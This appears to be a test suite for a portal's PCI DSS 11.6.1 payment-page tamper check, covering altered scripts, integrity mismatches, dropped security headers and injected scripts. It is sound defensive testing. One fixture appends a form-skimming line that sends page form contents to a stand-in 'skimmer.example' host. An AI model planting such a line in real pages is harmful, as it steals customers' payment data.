import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { AREAS, parseInstanceConfig } from '@portal/config';
import Fastify, { type FastifyInstance } from 'fastify';
import { buildServer } from '../src/app';
import type { SmsAdapter } from '../src/adapters/sms';
import type { Db } from '../src/db/connect';
import { metricsRegistry } from '../src/observability/metrics';
import { baselineOf, checkPaymentPages, type PaymentPagesBaseline } from '../src/payment-pages/check';
import { runPaymentPagesCheck } from '../src/payment-pages/self-check';
import { loggerOptions } from '../src/logging';
import { findRepoRoot } from '../src/paths';

/** The payment pages never touch the database: a placeholder stands in for it. */
const noDatabase = {} as Db;
const demoSms = { kind: 'demo', outbox: [], send: async () => undefined } as unknown as SmsAdapter;
const sha384 = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;

const MAIN = 'console.log("portal entry");';
const CHUNK = 'export const page = "billing details";';
const ENTRY = 'var portal_billing = {};';

/** A repository root with a built host and billing area, their inventories as config/payment-scripts.cjs writes them. */
function builtRoot() {
  const root = mkdtempSync(path.join(tmpdir(), 'portal-payment-pages-'));
  const write = (file: string, content: string) => {
    mkdirSync(path.dirname(path.join(root, file)), { recursive: true });
    writeFileSync(path.join(root, file), content);
  };
  const inventory = (area: string, scripts: Record<string, string>) =>
    JSON.stringify({
      area,
      buildVersion: 'b1',
      hash: 'sha384',
      scripts: Object.entries(scripts).map(([file, text]) => ({ file, integrity: sha384(text), area, chunk: file, why: `${area} code` })),
    });
  write(
    'host/dist/index.html',
    `<!doctype html><title>Portal</title><script defer src=/main.js integrity=${sha384(MAIN)} crossorigin=anonymous></script><link rel=preload as=script href=/548.0d88d1e2.js integrity=${sha384(CHUNK)} crossorigin=anonymous><div id=root></div>`,
  );
  write('host/dist/main.js', MAIN);
  write('host/dist/548.0d88d1e2.js', CHUNK);
  write('host/dist/payment-scripts.json', inventory('host', { 'main.js': MAIN, '548.0d88d1e2.js': CHUNK }));
  write('remotes/billing/dist/remoteEntry.js', ENTRY);
  write('remotes/billing/dist/mf-manifest.json', JSON.stringify({ metaData: { remoteEntry: { name: 'remoteEntry.js', path: '', type: 'global' }, integrity: { 'remoteEntry.js': sha384(ENTRY) } } }));
  write('remotes/billing/dist/payment-scripts.json', inventory('billing', { 'remoteEntry.js': ENTRY }));
  return { root, write };
}

/** The default instance with only the billing area on. */
function billingOnly() {
  const config = parseInstanceConfig(JSON.parse(readFileSync(path.join(findRepoRoot(), 'config', 'instances', 'default.json'), 'utf8')));
  for (const area of AREAS) if (area !== 'billing') config.remotes[area] = { ...config.remotes[area], enabled: false };
  return config;
}

const kinds = (findings: { kind: string; subject: string }[]) => findings.map((f) => `${f.kind} ${f.subject}`).sort();

describe('the payment-page check (PCI DSS 11.6.1)', () => {
  const { root, write } = builtRoot();
  let app: FastifyInstance;
  let origin: string;
  let baseline: PaymentPagesBaseline;
  /** A proxy in front of the portal that drops a header (a misconfiguration to catch). */
  let dropHeader: string | null = null;

  beforeAll(async () => {
    ({ app } = await buildServer({ db: noDatabase, secret: new Uint8Array(32), sms: demoSms, rootDir: root, instanceConfig: billingOnly() }));
    app.addHook('onSend', async (_request, reply, payload) => {
      if (dropHeader) reply.removeHeader(dropHeader);
      return payload;
    });
    await app.listen({ port: 0, host: '127.0.0.1' });
    const address = app.server.address();
    origin = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    const first = await checkPaymentPages(origin, null);
    expect(first.findings).toEqual([]);
    baseline = baselineOf(first.observation);
  });
  afterAll(async () => {
    await app.close();
    rmSync(root, { recursive: true, force: true });
  });
  afterEach(() => {
    dropHeader = null;
    write('host/dist/548.0d88d1e2.js', CHUNK);
    write('remotes/billing/dist/remoteEntry.js', ENTRY);
  });

  it('records every script of the page and of the inventories, with the security headers', () => {
    expect(Object.keys(baseline.scripts).sort()).toEqual(['/548.0d88d1e2.js', '/main.js', '/remotes/billing/remoteEntry.js']);
    expect(baseline.scripts['/main.js']).toBe(sha384(MAIN));
    const headers = baseline.headers['/account/billing-details']!;
    expect(headers['content-security-policy']).toContain('report-to csp-endpoint');
    expect(headers['x-frame-options']).toBe('SAMEORIGIN');
  });

  it('stays quiet when nothing changed', async () => {
    expect((await checkPaymentPages(origin, baseline)).findings).toEqual([]);
  });

  it('alerts when a served script changed: against its inventory and against the baseline', async () => {
    write('host/dist/548.0d88d1e2.js', `${CHUNK}fetch("https://skimmer.example/?c="+document.forms[0].innerHTML);`);
    const { findings } = await checkPaymentPages(origin, baseline);
    expect(kinds(findings)).toEqual(['script-changed /548.0d88d1e2.js', 'script-changed /548.0d88d1e2.js']);
  });

  it('alerts when an area entry no longer matches the integrity its manifest names', async () => {
    write('remotes/billing/dist/remoteEntry.js', `${ENTRY}/* changed */`);
    const { findings } = await checkPaymentPages(origin, baseline);
    expect(kinds(findings)).toEqual(['script-changed /remotes/billing/remoteEntry.js', 'script-changed /remotes/billing/remoteEntry.js']);
  });

  it('alerts when an area manifest names another integrity than the area inventory', async () => {
    const manifest = readFileSync(path.join(root, 'remotes/billing/dist/mf-manifest.json'), 'utf8');
    write('remotes/billing/dist/mf-manifest.json', manifest.replace(sha384(ENTRY), sha384('var portal_billing = evil;')));
    try {
      const { findings } = await checkPaymentPages(origin, baseline);
      expect(kinds(findings)).toEqual(['integrity-missing /remotes/billing/mf-manifest.json remoteEntry.js']);
    } finally {
      write('remotes/billing/dist/mf-manifest.json', manifest);
    }
  });

  it('alerts when a security header is removed', async () => {
    dropHeader = 'x-frame-options';
    const { findings } = await checkPaymentPages(origin, baseline);
    expect(findings).toEqual([{ kind: 'header-removed', subject: '/account/billing-details x-frame-options', expected: 'SAMEORIGIN' }]);
  });

  it('alerts when the policy loses its reporting, even without a baseline', async () => {
    dropHeader = 'reporting-endpoints';
    const { findings } = await checkPaymentPages(origin, null);
    expect(kinds(findings)).toEqual(['header-removed /account/billing-details reporting-endpoints']);
  });

  it('alerts on a script the page loads that no inventory lists, and on one without its integrity', async () => {
    const page = readFileSync(path.join(root, 'host/dist/index.html'), 'utf8');
    write('host/dist/extra.js', 'console.log("added")');
    write('host/dist/index.html', page.replace('<div id=root>', '<script src=/extra.js></script><script>steal()</script><div id=root>').replace(/ integrity=sha384-[^ ]+ crossorigin=anonymous><\/script>/, '></script>'));
    try {
      const { findings } = await checkPaymentPages(origin, baseline);
      expect(kinds(findings)).toEqual([
        'inline-script /account/billing-details',
        'integrity-missing /main.js',
        'script-added /extra.js',
        'script-not-in-inventory /extra.js',
      ]);
    } finally {
      write('host/dist/index.html', page);
    }
  });

  it('the server-side check logs each difference as an error and counts it; a clean run writes nothing', async () => {
    const baselineFile = path.join(root, 'baseline.json');
    writeFileSync(baselineFile, JSON.stringify(baseline));
    let log = '';
    const logger = Fastify({ logger: loggerOptions('info', new Writable({ write: (chunk, _e, done) => ((log += chunk.toString()), done()) })) }).log;
    const counted = async () => (await metricsRegistry.getSingleMetric('portal_payment_page_changes_total')!.get()).values.reduce((sum, v) => sum + v.value, 0);
    const ok = async () => (await metricsRegistry.getSingleMetric('portal_payment_page_check_ok')!.get()).values[0]?.value;

    expect(await runPaymentPagesCheck({ origin, baselineFile, log: logger })).toEqual([]);
    expect(log).toBe('');
    expect(await ok()).toBe(1);

    const before = await counted();
    dropHeader = 'content-security-policy';
    const findings = await runPaymentPagesCheck({ origin, baselineFile, log: logger });
    expect(findings.length).toBeGreaterThan(0);
    expect(await counted()).toBe(before + findings.length);
    expect(await ok()).toBe(0);
    const lines = log.trim().split('\n').map((l) => JSON.parse(l));
    expect(lines.every((l) => l.level === 50 && l.msg === 'payment page changed')).toBe(true);
    expect(lines.map((l) => l.paymentPageChange.subject)).toContain('/account/billing-details content-security-policy');
  });
});
